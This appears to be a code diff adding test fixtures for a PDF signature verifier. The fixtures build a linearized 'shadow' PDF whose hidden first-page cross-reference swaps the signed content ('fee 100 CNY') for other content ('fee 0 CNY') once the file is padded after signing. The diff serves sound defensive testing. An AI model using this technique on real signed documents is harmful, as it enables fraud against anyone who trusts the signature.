@@ -45,6 +45,7 @@ import {
   type TestPki,
   type Tsa,
 } from '../verify/generator';
+import type { Signer } from '../../packages/core/src/signer/types';
 
 /**
  * Issue 14, class 5 (not yet in the generator): after signing, the page's content object written
@@ -118,6 +119,67 @@ export function duplicateInObjectStream(signed: Uint8Array): Uint8Array {
     data,
     latin1Bytes(`\nendstream\nendobj\nstartxref\n${xOff}\n%%EOF\n`),
   );
+}
+
+/**
+ * Issue 14, class 3 (not yet in the generator): a "linearized" original whose first-page
+ * cross-reference section names another definition of the page content ("fee 0 CNY") than the main
+ * one ("fee 100 CNY"), with /L set to a length the file reaches only later. Once signed, the file is
+ * not that length and every viewer shows the main content. Spaces appended after signing bring it
+ * to /L (`padToLength`): poppler then trusts the linearization and shows the first-page section.
+ * Sign it with `linearizedShadowSigned`. Kept out of `buildCatalog` until the verifier rejects it.
+ */
+export function linearizedShadowOriginal(L: number): Uint8Array {
+  const benign = 'BT /F1 24 Tf 72 700 Td (Sidian fixture: fee 100 CNY) Tj ET\n';
+  const evil = 'BT /F1 24 Tf 72 700 Td (Sidian fixture: fee 0 CNY) Tj ET\n';
+  let s = '%PDF-1.5\n%\xe2\xe3\xcf\xd3\n';
+  const off: Record<string, number> = {};
+  const lin = `1 0 obj\n<< /Linearized 1 /L ${String(L).padStart(10, '0')} /H [ 0 0 ] /O 4 /E 0 /N 1 /T 0 >>\nendobj\n`;
+  off.lin = s.length;
+  s += lin;
+  // placeholders for the first-page xref: filled after offsets are known
+  const firstXrefAt = s.length;
+  const FX = 'FIRSTXREF';
+  s += FX;
+  const defs: [string, string][] = [
+    ['2', '<< /Type /Catalog /Pages 3 0 R >>'],
+    ['3', '<< /Type /Pages /Kids [4 0 R] /Count 1 >>'],
+    [
+      '4',
+      '<< /Type /Page /Parent 3 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 6 0 R >> >> /Contents 5 0 R >>',
+    ],
+    ['6', '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'],
+  ];
+  let body = '';
+  const rel: Record<string, number> = {};
+  for (const [n, d] of defs) {
+    rel[n] = body.length;
+    body += `${n} 0 obj\n${d}\nendobj\n`;
+  }
+  rel.evil = body.length;
+  body += `5 0 obj\n<< /Length ${evil.length} >>\nstream\n${evil}endstream\nendobj\n`;
+  rel.benign = body.length;
+  body += `5 0 obj\n<< /Length ${benign.length} >>\nstream\n${benign}endstream\nendobj\n`;
+  const e = (o: number) => `${String(o).padStart(10, '0')} 00000 n\r\n`;
+  // fixed-width first xref: compute its length with dummy numbers
+  const firstXref = (base: number, mainAt: number) =>
+    `xref\n5 1\n${e(base + rel.evil!)}trailer\n<< /Size 7 /Root 2 0 R /Prev ${String(mainAt).padStart(10, '0')} >>\n`;
+  const fxLen = firstXref(0, 0).length;
+  const base = firstXrefAt + fxLen;
+  const mainAt = base + body.length;
+  const main = `xref\n0 7\n0000000000 65535 f\r\n${e(off.lin)}${e(base + rel['2']!)}${e(base + rel['3']!)}${e(base + rel['4']!)}${e(base + rel.benign!)}${e(base + rel['6']!)}trailer\n<< /Size 7 /Root 2 0 R >>\nstartxref\n${mainAt}\n%%EOF\n`;
+  s = s.replace(FX, firstXref(base, mainAt)) + body + main;
+  return latin1Bytes(s);
+}
+/** The class-3 file signed, then padded with spaces to its /L. */
+export async function linearizedShadowSigned(
+  signer: Signer,
+): Promise<{ signed: Uint8Array; padded: Uint8Array }> {
+  const probe = await signPdf(linearizedShadowOriginal(1), { signer, contentsSize: 3072 });
+  const l = probe.length + 200;
+  const signed = await signPdf(linearizedShadowOriginal(l), { signer, contentsSize: 3072 });
+  if (signed.length >= l) throw new Error('the signed file outgrew its /L');
+  return { signed, padded: concat(signed, latin1Bytes(' '.repeat(l - signed.length))) };
 }
 
 export interface CatalogFile {
